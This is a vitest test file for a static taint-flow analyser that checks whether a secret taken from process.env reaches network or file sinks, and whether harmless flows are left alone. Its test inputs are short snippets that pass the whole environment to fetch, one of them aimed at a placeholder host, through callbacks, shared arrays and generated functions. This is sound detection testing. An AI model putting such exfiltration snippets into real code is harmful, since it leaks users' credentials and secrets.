import { expect, it } from 'vitest';
import { createApiFacts } from '../catalog/apiFacts.ts';
import { linkProgram } from '../program/linkProgram.ts';
import { createResolve } from '../program/resolveSpecifier.ts';
import { listedValues } from '../catalog/listedValues.ts';
import { findSources } from '../sources/findSources.ts';
import { publicFunctions } from '../sources/publicFunctions.ts';
import { lowerSources } from '../testing/analyseSources.ts';
import { analyseValues } from '../values/valueAnalysis.ts';
import { followFlows } from './followFlows.ts';
import { planFlows } from './planFlows.ts';

const START = 'const secret = process.env; const sent = [];\n';

/** How many edges the table has, and how often a sink is reached; the environment is the secret. */
async function follow(text: string, isMeant?: (kind: string) => boolean): Promise<{ edges: number; hits: number }> {
  const program = linkProgram(await lowerSources({ 'index.js': START + text }));
  const values = analyseValues(program, createResolve(program.modules, {}));
  const factsOf = createApiFacts(values.denotations.apis);
  const known = { values, factsOf, listed: listedValues(values, factsOf), isPublic: publicFunctions(values) };
  const sources = findSources(known, () => true);
  const { table, hits } = followFlows(planFlows(known, sources), sources, 10_000, isMeant);
  return { edges: table.edges.count(), hits: hits.length };
}

it.each([
  [
    'through a function that gives it back',
    'const give = (x) => x; fetch("https://a.invalid", { body: give(secret) });',
  ],
  ['put into what a caller gave', 'const put = (o) => { o.k = secret; }; const o = {}; put(o); fetch(o.k);'],
  ['through a callback', 'fetch([secret].map((one) => one)[0]);'],
  ['through a list that several hold', 'const also = sent; sent.push(secret); fetch(also[0]);'],
  [
    'through one of very many functions',
    `${'abcdef'.replaceAll(/./gu, 'o.$& = (x) => x;').replace('o', 'const o = {}; o')} fetch(o[Date.now()](secret));`,
  ],
])('follows a secret that reaches a sink %s', async (_, text) => {
  expect((await follow(text)).hits).toBeGreaterThan(0);
});

it.each([
  ['stays where it belongs', 'const o = { k: secret, n: 1 }; fetch(o.n);'],
  ['lies beside what is sent', 'const pair = (a, b) => ({ a, b }); fetch(pair(secret, 1).b);'],
])('makes no table for a secret that %s', async (_, text) => {
  expect(await follow(text)).toEqual({ edges: 0, hits: 0 });
});

it('makes no table where no sink is reached that is meant', async () => {
  const text = 'require("node:fs").writeFileSync("a", JSON.stringify(secret));';
  expect((await follow(text)).hits).toBe(1);
  expect(await follow(text, (kind) => kind === 'network')).toEqual({ edges: 0, hits: 0 });
});
